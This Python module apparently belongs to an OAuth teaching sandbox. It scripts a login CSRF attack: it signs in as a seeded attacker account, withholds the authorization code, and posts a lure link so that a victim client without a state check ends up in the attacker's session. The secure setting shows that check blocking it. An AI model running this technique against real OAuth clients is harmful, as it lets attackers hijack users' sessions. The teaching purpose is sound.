"""Login CSRF (RFC 6749 §10.12), secure and vulnerable side by side: the attacker's own
authorization code, pushed into the victim's session.

Unlike the other attack pairs, the weakness here is the client's, not the provider's: both settings
use the provider's default issuer and the sandbox's classic client (a client secret, no PKCE, no
nonce), so that state is the only defence in play; PKCE or a nonce would each stop this attack
too (RFC 9700 §4.7.1). Under the VULNERABLE setting the victim's run is a client that sends no
state and so takes any authorization response (`flows/authorization_code.NO_STATE`); under the
secure one it is the ordinary client, whose redirect_uri refuses a state this browser never sent
(`views.callback`). The attacker, played by this module, signs in at the provider with their own
account, keeps the code the provider redirects them with instead of delivering it, and puts a
link to the client's redirect_uri, carrying that code, on the attacker's site.
"""

from __future__ import annotations

import dataclasses
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urljoin, urlsplit

import requests
from authlib.common.security import generate_token
from authlib.common.urls import add_params_to_uri

from . import instructor_token
from .answers import UnusableAnswer, json_object
from .attacks import Attack, AttackRun, AttackUnavailable
from .config import SandboxConfig
from .discovery import DiscoveryError
from .flows import FLOWS, authorization_code
from .provider_client import RegistrationError, Registrations, oauth_session
from .recorder import Run, RunStore
from .runs import start_run

#: The attacker's own account at the provider: the mock provider's seeded user bob. The attacker
#: knows their own password (the provider's seed publishes it).
ATTACKER_ACCOUNT = {"username": "bob", "password": "correct horse battery staple"}

#: The rule the secure client enforces, quoted from RFC 6749 §10.12.
RULE = (
    "The client MUST implement CSRF protection for its redirection URI. This is typically "
    "accomplished by requiring any request sent to the redirection URI endpoint to include a "
    "value that binds the request to the user-agent's authenticated state"
)


def start(
    attack: Attack,
    setting: str,
    config: SandboxConfig,
    registrations: Registrations,
    runs: RunStore,
    learner: str,
) -> AttackRun:
    """Open the victim's run (waiting for its callback), then play the attacker up to the lure."""
    flow = FLOWS["authorization-code"]
    deviation = authorization_code.NO_STATE if setting == "vulnerable" else None
    try:
        victim = start_run(
            flow, flow.variant("classic"), config, registrations, deviation=deviation
        )
    except (DiscoveryError, RegistrationError) as error:
        raise AttackUnavailable(str(error)) from None
    runs.add(learner, victim)
    attack_run = AttackRun(
        attack, setting, victim, state=generate_token(16), redirect_uri=config.redirect_uri
    )
    # The attacker uses the victim's client's client_id (public) but holds no secret of its own.
    credentials = dataclasses.replace(victim.credentials, client_secret=None)
    session = oauth_session(
        Run(flow=flow.id, variant="classic", issuer=victim.issuer),  # the attacker's, unshown
        "authorization_request",
        credentials,
        scope=authorization_code.SCOPE,
        redirect_uri=config.redirect_uri,
    )
    attack_run.authorization_url, _ = session.create_authorization_url(
        victim.provider.authorization_endpoint, state=attack_run.state
    )
    redirect = _sign_in_as_attacker(attack_run.authorization_url, config)
    attack_run.stolen = dict(parse_qsl(urlsplit(redirect).query))
    attack_run.lure = _put_lure_up(redirect, config)
    return attack_run


def _sign_in_as_attacker(authorization_url: str, config: SandboxConfig) -> str:
    """Sign in as bob in the attacker's own browser, through the provider's pages as a person
    would (each form carries the token its page put in it); return the redirect, not followed."""
    browser = requests.Session()
    browser.headers.update(instructor_token.vulnerable_issuers())  # the instructor's demo
    try:
        answer = browser.get(authorization_url, allow_redirects=False, timeout=10)
        if answer.status_code == 302:  # --auto-login signed its user in at once; code unused
            # OIDC Core §3.1.2.1: prompt=login asks the provider for its sign-in page again.
            again = add_params_to_uri(authorization_url, {"prompt": "login"})
            answer = browser.get(again, allow_redirects=False, timeout=10)
        answer = _submit(browser, answer, ATTACKER_ACCOUNT)
        if answer.status_code == 200:  # the consent page: without --auto-login it asks
            answer = _submit(browser, answer, {"action": "allow"})
    except requests.RequestException as error:
        raise AttackUnavailable(f"The provider cannot be reached ({error}).") from None
    location = answer.headers.get("Location", "")
    if answer.status_code != 302 or not location.startswith(f"{config.redirect_uri}?code="):
        raise AttackUnavailable(
            f"The attacker could not sign in as {ATTACKER_ACCOUNT['username']} and get a code: "
            f"the provider answered {answer.status_code} {location}".rstrip()
        )
    return location


def _submit(
    browser: requests.Session, page: requests.Response, typed: dict[str, str]
) -> requests.Response:
    """Submit the page's form whose hidden fields agree with `typed`, as a browser does: to the
    form's action, with its hidden fields (the form token among them) and what was typed.
    A page with no such form is returned as it is, for the caller to report."""
    forms = _Forms()
    forms.feed(page.text)
    for action, hidden in forms.found:
        if all(hidden.get(name, value) == value for name, value in typed.items()):
            target = urljoin(page.url, action)
            data = {**hidden, **typed}
            return browser.post(target, data=data, allow_redirects=False, timeout=10)
    return page


class _Forms(HTMLParser):
    """The POST forms of a page: each one's action and its hidden fields."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.inside = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "form" and (attributes.get("method") or "").lower() == "post":
            self.found.append((attributes.get("action") or "", {}))
            self.inside = True
        elif tag == "input" and attributes.get("type") == "hidden" and self.inside:
            self.found[-1][1][attributes.get("name") or ""] = attributes.get("value") or ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.inside = False


def _put_lure_up(href: str, config: SandboxConfig) -> str:
    """Put a link to `href` on a page of the attacker's site; return that page's URL."""
    url = f"{config.attacker_base_url}/lures"
    try:
        lure = json_object(
            requests.post(url, json={"href": href}, timeout=10), f"The attacker's site at {url}"
        )
    except requests.RequestException as error:
        raise AttackUnavailable(
            f"The attacker's site at {config.attacker_base_url} cannot be reached "
            f"({type(error).__name__}). `oauth-sandbox run` starts it beside the sandbox."
        ) from None
    except UnusableAnswer as error:
        raise AttackUnavailable(str(error)) from None
    if not isinstance(lure.get("page"), str):
        raise AttackUnavailable(f"The attacker's site at {url} answered no lure page's URL.")
    return lure["page"]


def finish(attack_run: AttackRun) -> None:
    """The victim's client goes on from what reached its redirect_uri: tokens, ID token,
    userinfo, if it took the attacker's response. Then say whose session the victim is in."""
    victim = attack_run.run
    if "authorization_response" in victim.completed:
        for step in FLOWS[victim.flow].steps:
            if step.id in victim.completed or step.perform is None:
                continue
            step.perform(victim)
            if victim.error:
                break
            victim.completed.append(step.id)
    attack_run.tokens = victim.client_state.get("tokens")
    attack_run.userinfo = victim.client_state.get("userinfo")
    if attack_run.userinfo:
        attack_run.outcome = (
            "The attack succeeded: the victim's session is signed in as "
            f"{attack_run.userinfo.get('name')}, the attacker's account."
        )
    elif "authorization_response" in victim.completed or victim.error:
        attack_run.outcome = f"The victim's client stopped: {victim.error}"
    else:
        attack_run.outcome = "The victim's session holds no tokens: its client took no response."
        attack_run.blocked = [_state_check(attack_run)]


def _state_check(attack_run: AttackRun) -> dict[str, str | int]:
    """The check the secure client's redirect_uri makes, as the attack page shows it."""
    sent = attack_run.run.client_state.get("state")
    return {
        "check": "state",
        "request": "GET /callback",
        "status": 400,
        "detail": f"state is {attack_run.state!r}, the attacker's; this browser's run sent "
        f"{sent!r}, so the client does not act on the response (RFC 6749 §10.12).",
    }
